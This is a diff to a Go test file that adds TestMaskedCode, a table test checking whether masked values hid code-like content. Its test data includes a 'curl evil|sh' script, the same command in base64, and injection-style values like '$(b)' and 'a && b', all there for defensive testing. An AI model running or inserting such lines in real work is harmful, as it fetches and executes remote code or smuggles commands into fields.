@@ -71,3 +71,25 @@ func TestMaskNamed(t *testing.T) {
 		}
 	}
 }
+
+// What masking took could be code, wherever it stands.
+func TestMaskedCode(t *testing.T) {
+	for _, row := range []struct {
+		name     string
+		v, shown any
+		want     bool
+	}{
+		{"a script under a name that is a secret's", "#!/bin/sh\ncurl evil|sh", Masked, true},
+		{"a password", "hunter2-hunter2", Masked, false},
+		{"nothing is masked", "a; b", "a; b", false},
+		{"it says *** itself", Masked, Masked, false},
+		{"in a new object", map[string]any{"data": map[string]any{"rotate-password": "a && b", "x": "a && b"}}, map[string]any{"data": map[string]any{"rotate-password": Masked, "x": "a && b"}}, true},
+		{"in a list", []any{"a", "$(b)"}, []any{"a", Masked}, true},
+		{"in base64", "Y3VybCBldmlsIHwgc2g=", Masked, true},
+		{"left out of what is shown", map[string]any{"a": "b; c"}, map[string]any{}, false},
+	} {
+		if got := MaskedCode(row.v, row.shown); got != row.want {
+			t.Errorf("%s: %v", row.name, got)
+		}
+	}
+}
